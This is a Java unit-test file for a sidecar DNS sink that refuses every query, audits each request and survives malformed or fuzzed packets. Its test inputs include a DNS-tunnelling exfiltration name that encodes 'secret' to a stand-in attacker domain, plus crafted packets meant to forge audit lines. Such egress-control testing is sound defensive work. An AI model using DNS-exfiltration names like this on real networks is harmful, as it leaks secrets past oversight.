package io.claudebottle.sidecar;

import io.claudebottle.egress.AuditLog;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import javax.naming.NamingException;
import javax.naming.directory.InitialDirContext;
import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Hashtable;
import java.util.Map;
import java.util.Random;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * The sidecar's DNS sink (DESIGN §3.2, no name resolves to an external address): every query is
 * refused with no answer record, over UDP and TCP, and audited with the name asked; malformed
 * queries never crash it or make it echo more than a header.
 */
class DnsSinkServiceTest {
    private final ByteArrayOutputStream auditBytes = new ByteArrayOutputStream();
    private DnsSinkService sink;

    @BeforeEach
    void start() {
        SidecarContext ctx = new SidecarContext("dns-test", "127.0.0.1", AuditLog.to(auditBytes), null, null, Map.of());
        sink = DnsSinkService.bind(new SidecarConfig.Dns(0), ctx);
        sink.open();
    }

    @AfterEach
    void stop() {
        sink.close();
    }

    private String audit() {
        synchronized (auditBytes) {
            return auditBytes.toString(StandardCharsets.UTF_8);
        }
    }

    static byte[] query(int id, String name, int type) {
        ByteBuffer b = ByteBuffer.allocate(512);
        b.putShort((short) id).putShort((short) 0x0100).putShort((short) 1).putShort((short) 0).putShort((short) 0).putShort((short) 0);
        for (String label : name.split("\\.")) {
            byte[] bytes = label.getBytes(StandardCharsets.US_ASCII);
            b.put((byte) bytes.length).put(bytes);
        }
        b.put((byte) 0).putShort((short) type).putShort((short) 1);
        byte[] out = new byte[b.position()];
        b.flip().get(out);
        return out;
    }

    private byte[] udp(byte[] query) throws IOException {
        try (DatagramSocket socket = new DatagramSocket()) {
            socket.setSoTimeout(3000);
            socket.send(new DatagramPacket(query, query.length, InetAddress.getLoopbackAddress(), sink.port()));
            DatagramPacket reply = new DatagramPacket(new byte[4096], 4096);
            socket.receive(reply);
            byte[] out = new byte[reply.getLength()];
            System.arraycopy(reply.getData(), 0, out, 0, out.length);
            return out;
        }
    }

    private static int u16(byte[] b, int at) {
        return ((b[at] & 0xff) << 8) | (b[at + 1] & 0xff);
    }

    @Test
    void refusesAnExternalNameOverUdpWithNoAnswerAndAuditsIt() throws IOException {
        byte[] reply = udp(query(0x1234, "exfil-c2VjcmV0.attacker.example", 1));

        assertThat(u16(reply, 0)).as("id").isEqualTo(0x1234);
        assertThat(u16(reply, 2) & 0x8000).as("QR").isNotZero();
        assertThat(u16(reply, 2) & 0xf).as("RCODE").isEqualTo(DnsMessage.REFUSED);
        assertThat(u16(reply, 6)).as("ANCOUNT").isZero();
        assertThat(u16(reply, 8) + u16(reply, 10)).as("NSCOUNT+ARCOUNT").isZero();
        assertThat(audit()).contains("\"service\":\"dns\"", "\"decision\":\"deny\"",
                "\"name\":\"exfil-c2VjcmV0.attacker.example\"", "\"type\":\"A\"", "\"transport\":\"udp\"");
    }

    @Test
    void refusesOverTcpTooSeveralQueriesOnOneConnection() throws IOException {
        try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), sink.port())) {
            socket.setSoTimeout(3000);
            DataOutputStream out = new DataOutputStream(socket.getOutputStream());
            DataInputStream in = new DataInputStream(socket.getInputStream());
            for (String name : new String[]{"one.example", "two.example"}) {
                byte[] q = query(7, name, 28);
                out.writeShort(q.length);
                out.write(q);
                out.flush();
                byte[] reply = new byte[in.readUnsignedShort()];
                in.readFully(reply);
                assertThat(u16(reply, 2) & 0xf).isEqualTo(DnsMessage.REFUSED);
                assertThat(u16(reply, 6)).isZero();
            }
        }
        assertThat(audit()).contains("\"name\":\"one.example\"", "\"name\":\"two.example\"", "\"type\":\"AAAA\"",
                "\"transport\":\"tcp\"");
    }

    @Test
    void anIndependentDnsClientResolvesNothingThroughIt() {
        // the JDK's JNDI DNS provider: a resolver that is not ours
        Hashtable<String, String> env = new Hashtable<>();
        env.put("java.naming.factory.initial", "com.sun.jndi.dns.DnsContextFactory");
        env.put("java.naming.provider.url", "dns://127.0.0.1:" + sink.port());
        env.put("com.sun.jndi.dns.timeout.retries", "1");
        assertThatThrownBy(() -> new InitialDirContext(env).getAttributes("api.anthropic.com", new String[]{"A", "AAAA"}))
                .isInstanceOf(NamingException.class);
        assertThat(audit()).contains("\"name\":\"api.anthropic.com\"");
    }

    @Test
    void neverAnswersAResponseSoTwoSinksCannotPingPong() throws IOException {
        byte[] response = query(9, "loop.example", 1);
        response[2] |= (byte) 0x80; // QR=1
        try (DatagramSocket socket = new DatagramSocket()) {
            socket.setSoTimeout(500);
            socket.send(new DatagramPacket(response, response.length, InetAddress.getLoopbackAddress(), sink.port()));
            assertThatThrownBy(() -> socket.receive(new DatagramPacket(new byte[512], 512)))
                    .isInstanceOf(SocketTimeoutException.class);
        }
    }

    @Test
    void malformedQueriesGetFormErrAndTheSinkKeepsServing() throws IOException {
        byte[] pointerLoop = query(5, "x.example", 1);
        pointerLoop[12] = (byte) 0xc0; // a compression pointer back to itself
        pointerLoop[13] = 12;
        byte[] reply = udp(pointerLoop);
        assertThat(u16(reply, 2) & 0xf).isEqualTo(DnsMessage.FORMERR);
        assertThat(reply).hasSize(DnsMessage.HEADER);

        byte[] labelPastEnd = {0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 63, 'a', 'b'};
        assertThat(u16(udp(labelPastEnd), 2) & 0xf).isEqualTo(DnsMessage.FORMERR);

        assertThat(u16(udp(query(6, "still.serving", 1)), 2) & 0xf).isEqualTo(DnsMessage.REFUSED);
        assertThat(audit()).contains("\"reason\":\"malformed query\"", "\"name\":\"still.serving\"");
    }

    @Test
    void escapesBytesThatCouldForgeAnAuditLine() {
        byte[] q = query(1, "a", 1);
        byte[] evil = new byte[q.length + 4];
        System.arraycopy(q, 0, evil, 0, 12);
        byte[] label = {5, 'x', '"', '\n', '.', '\\'};
        System.arraycopy(label, 0, evil, 12, label.length);
        evil[18] = 0;
        evil[19] = 0;
        evil[20] = 1;
        evil[21] = 0;
        evil[22] = 1;
        assertThat(DnsMessage.parse(evil, 23)).get().extracting(DnsMessage::name).isEqualTo("x\"\\010\\046\\092");
    }

    @Test
    void fuzzedMessagesNeverThrowAndNeverReadPastTheirLength() {
        Random random = new Random(20261128);
        byte[] seed = query(1, "a.bottle-demo.test", 1);
        for (int i = 0; i < 200_000; i++) {
            byte[] buf;
            int length;
            if (i % 2 == 0) {
                buf = new byte[random.nextInt(64)];
                random.nextBytes(buf);
                length = buf.length;
            } else {
                buf = seed.clone();
                for (int flips = random.nextInt(4) + 1; flips > 0; flips--) {
                    buf[random.nextInt(buf.length)] = (byte) random.nextInt(256);
                }
                length = random.nextInt(buf.length + 1);
            }
            // whatever lies beyond length must not matter: a parser that reads it would see this garbage
            byte[] padded = new byte[length + 16];
            System.arraycopy(buf, 0, padded, 0, length);
            var parsed = DnsMessage.parse(padded, length);
            parsed.ifPresent(m -> {
                assertThat(m.question().length).isLessThanOrEqualTo(length - DnsMessage.HEADER);
                assertThat(m.refusal()).hasSize(DnsMessage.HEADER + m.question().length);
            });
            DnsMessage.header(padded, length).ifPresent(h -> assertThat(DnsMessage.formatError(h)).hasSize(DnsMessage.HEADER));
        }
    }

    @Test
    void isAConfigKey() {
        SidecarConfig c = SidecarConfig.parse("{\"bottle\":\"b\",\"auditLog\":\"a\",\"caCertFile\":\"c\",\"dns\":{\"port\":53}}", "x");
        assertThat(c.dns().port()).isEqualTo(53);
        assertThatThrownBy(() -> SidecarConfig.parse("{\"bottle\":\"b\",\"auditLog\":\"a\",\"caCertFile\":\"c\",\"dns\":{\"port\":70000}}", "x"))
                .hasMessageContaining("dns.port");
    }
}
